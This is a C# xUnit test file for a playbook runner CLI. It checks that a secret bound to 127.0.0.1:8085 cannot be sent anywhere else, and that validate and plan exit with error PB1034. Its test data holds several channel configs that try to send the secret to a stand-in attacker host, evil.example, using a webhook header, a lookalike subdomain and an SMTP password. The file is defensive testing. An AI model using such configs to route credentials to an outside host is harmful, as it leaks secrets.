using PlaybookRunner.Cli.Tests.Commands;

namespace PlaybookRunner.Cli.Tests;

/// <summary>
/// A secret the operator bound to a host (PLAYBOOK_ALLOWED_ENV=NAME@host) cannot be carried elsewhere by
/// an edited URL, host or connection: validate and plan refuse, through the real program.
/// </summary>
public sealed class SecretDestinationTests
{
    public static TheoryData<string, bool> Channels() => new()
    {
        { "hook: { kind: webhook, url: \"http://127.0.0.1:8085/tasks\", headers: { Authorization: \"Bearer ${env:PB_BOUND}\" } }", true },
        { "hook: { kind: webhook, url: \"http://evil.example/collect\", headers: { Authorization: \"Bearer ${env:PB_BOUND}\" } }", false },
        { "hook: { kind: webhook, url: \"http://127.0.0.1:9999/tasks\", headers: { Authorization: \"Bearer ${env:PB_BOUND}\" } }", false },
        { "hook: { kind: webhook, url: \"http://127.0.0.1.evil.example:8085/tasks\", headers: { Authorization: \"Bearer ${env:PB_BOUND}\" } }", false },
        { "default: { kind: smtp, host: evil.example, port: 8085, from: a@example.com, password: \"${env:PB_BOUND}\" }", false },
    };

    [Theory]
    [MemberData(nameof(Channels))]
    public void A_bound_secret_cannot_be_sent_to_another_host(string channel, bool allowed)
    {
        using var dir = new TempDir();
        dir.Write("d.csv", "id\nA\n");
        dir.Write("runner.yaml", $"channels:\n  {channel}\n");
        dir.Write("p.yaml", "playbook: p\nsource: { kind: csv, path: d.csv, key: id, fields: { id: string } }\nrules:\n  - { id: r, when: \"true\" }\n");
        var environment = new Dictionary<string, string> { ["PLAYBOOK_ALLOWED_ENV"] = "PB_BOUND@127.0.0.1:8085", ["PB_BOUND"] = TestCanary.New("bound") };

        foreach (var verb in new[] { "validate", "plan" })
        {
            var (code, stdout, stderr) = ProcessRunner.Run("dotnet", [Path.Combine(AppContext.BaseDirectory, "playbook.dll"), verb, dir.Root], environment: environment, timeoutSeconds: 120);
            Assert.DoesNotContain(environment["PB_BOUND"], stdout + stderr, StringComparison.Ordinal);
            if (allowed)
            {
                Assert.True(code == 0, stdout + stderr);
            }
            else
            {
                Assert.Equal(1, code);
                Assert.Contains("error PB1034: 'PB_BOUND' may only be sent to 127.0.0.1:8085; this channel", stdout + stderr, StringComparison.Ordinal);
            }
        }
    }
}
